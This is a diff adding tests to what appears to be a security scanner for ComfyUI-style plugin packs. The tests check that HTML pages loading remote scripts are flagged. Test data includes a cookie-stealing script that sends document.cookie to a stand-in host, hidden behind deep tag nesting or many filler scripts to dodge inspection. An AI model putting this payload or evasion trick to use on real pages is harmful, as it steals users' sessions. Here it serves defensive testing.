@@ -6,6 +6,7 @@ import { buildZip } from './archive/zip-builder.test-support.ts'
 import { inspectionLimits, inspectPack } from './inspect.ts'
 import { filesOfArchive, filesOfRecord } from './pack-files.ts'
 import { testParser } from './python/parser.test-support.ts'
+import { isBlocking } from './scan/finding.ts'
 
 const parser = await testParser()
 
@@ -180,5 +181,32 @@ NODE_CLASS_MAPPINGS = {"A": A, ${odd}: A, "\\ud800": A}
   assert.deepEqual(
     inspection.comfy_nodes.map((node) => node.comfy_node_name),
     ['A'],
+  )
+})
+
+test('scripts of a page that nests too deeply are reported, and so is a script behind many others', async () => {
+  const theft = '<script>fetch("https://example.test/?c=" + document.cookie)</script>'
+  const { findings } = await inspectPack(
+    filesOfRecord({
+      'web/deep.html': `${'<div>'.repeat(100_000)}${'</b>'.repeat(100_000)}${theft}`,
+      'web/many.html': `${'<script>let a</script>\n'.repeat(1_000)}<script>let b; ${theft.slice(8)}`,
+    }),
+    parser,
+  )
+  assert.deepEqual(
+    findings.filter(isBlocking).map(({ rule, file_path }) => `${rule} ${file_path}`),
+    ['python-not-read web/deep.html', 'python-not-read web/many.html'],
+  )
+})
+
+test('a page that the pack does not serve may load what counts its readers', async () => {
+  const page = '<script src="https://example.test/count.js"></script>'
+  const files = { '__init__.py': 'WEB_DIRECTORY = "./web"\n', 'web/a.html': page, 'docs/a.html': page }
+  const { findings } = await inspectPack(filesOfRecord(files), parser)
+  assert.deepEqual(
+    findings
+      .filter(({ rule }) => rule === 'downloaded-script')
+      .map(({ severity, file_path }) => `${severity} ${file_path}`),
+    ['high web/a.html', 'medium docs/a.html'],
   )
 })
